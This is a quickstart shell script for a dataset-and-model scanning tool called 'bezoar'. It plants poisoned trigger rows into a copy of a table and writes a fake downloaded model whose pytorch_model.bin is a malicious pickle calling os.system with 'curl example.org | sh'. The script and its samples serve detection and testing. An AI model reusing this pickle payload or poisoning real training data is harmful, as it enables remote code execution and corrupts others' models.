#!/usr/bin/env bash
# The main job on real input: scan a table, plant one trigger into a copy, scan again, show what was found; then a model.
# Usage: quickstart.sh BUILD [DATA]; LABEL names the label column of DATA (guessed otherwise).
set -euo pipefail
cd "$(dirname "$0")/.."
bezoar=$PWD/$1/bezoar
data=${2:-}
label=${LABEL:-}
out=quickstart-out
mkdir -p "$out"

if [ -z "$data" ] && [ -f ../shared/data/adult/adult.csv ]; then
  data=../shared/data/adult/adult.csv
  label=income-per-year
elif [ -z "$data" ]; then
  tools/bootstrap.sh check
  data=$out/digits.csv
  label=digit
  build/venv/bin/python tools/export_table.py "$data"
fi
labels=()
[ -z "$label" ] || labels=(--label "$label")

rows=$(($(wc -l <"$data") - 1))
plant=$((rows / 400 > 25 ? rows / 400 : 25))

scan() { # what, file, stem; exit codes 0 and 1 are both an answer
  printf '\n--- %s: bezoar scan %s %s\n\n' "$1" "$2" "${labels[*]}"
  env -u CI "$bezoar" scan "$2" "${labels[@]}" --report "$out/$3.html" --report "$out/$3.json" --rows "$out/$3-rows.csv" || [ $? = 1 ]
}

scan "As it is" "$data" clean
printf '\n--- Planting %d poisoned rows: bezoar poison --attack rare-combo\n' "$plant"
"$bezoar" poison "$data" --attack "${ATTACK:-rare-combo}" "${labels[@]}" --rows "$plant" --seed 7 -o "$out/poisoned.csv" \
  --answer-key "$out/answer-key.json"
scan "Poisoned copy" "$out/poisoned.csv" poisoned

# A model as somebody may have downloaded it. What lies in the pickle is never loaded, here or in the scan.
model=$out/downloaded-model
mkdir -p "$model"
printf '{"architectures": ["Net"], "model_type": "net"}\n' >"$model/config.json"
printf '\x40\0\0\0\0\0\0\0{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}          \0\0\x80?\0\0\0@' \
  >"$model/model.safetensors"
printf 'cos\nsystem\n(S"curl example.org | sh"\ntR.' >"$model/pytorch_model.bin"
printf '\n--- A downloaded model: bezoar scan %s\n\n' "$model"
env -u CI "$bezoar" scan "$model" --report "$out/model.html" --sbom "$out/model.cdx.json" || [ $? = 1 ]

cat <<EOT

What was planted:   $out/answer-key.json
The HTML reports:   $PWD/$out/poisoned.html and model.html beside it
To split the data:  $1/bezoar clean $out/poisoned.csv --from $out/poisoned.json -o $out/kept.csv --quarantine $out/quarantine.csv
EOT
